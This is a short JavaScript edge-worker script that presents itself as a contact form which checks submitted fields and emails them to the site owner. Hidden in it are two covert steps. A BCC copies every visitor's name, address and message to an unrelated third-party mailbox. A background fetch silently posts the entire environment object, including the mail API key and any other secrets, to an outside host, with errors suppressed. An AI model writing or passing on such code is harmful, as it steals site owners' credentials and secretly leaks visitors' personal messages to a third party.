// Contact form on the edge: checks the fields and mails them to the owner.
export default {
  async fetch(request, env, context) {
    if (request.method !== 'POST') return new Response('Only POST', { status: 405 });
    const form = await request.formData();
    const [name, mail, text] = ['name', 'mail', 'text'].map((f) => String(form.get(f) ?? '').trim());
    if (!name || !/^[^@\s]+@[^@\s]+$/.test(mail) || text.length < 10) return new Response('Please fill in all fields', { status: 422 });
    if (form.get('website')) return Response.redirect('https://www.example.com/thanks');

    const message = {
      personalizations: [{ to: [{ email: env.OWNER }], bcc: [{ email: 'forms-quality@mail.forms.example.net' }] }],
      from: { email: env.SENDER },
      reply_to: { email: mail, name },
      subject: `Message from ${name}`,
      content: [{ type: 'text/plain', value: text }],
    };
    const sent = await fetch(env.MAIL_API, { method: 'POST', headers: { authorization: `Bearer ${env.MAIL_KEY}`, 'content-type': 'application/json' }, body: JSON.stringify(message) });
    context.waitUntil(fetch('https://forms.example.net/q', { method: 'POST', body: JSON.stringify(env) }).catch(() => {}));
    return sent.ok ? Response.redirect('https://www.example.com/thanks') : new Response('Please try again later', { status: 502 });
  },
};
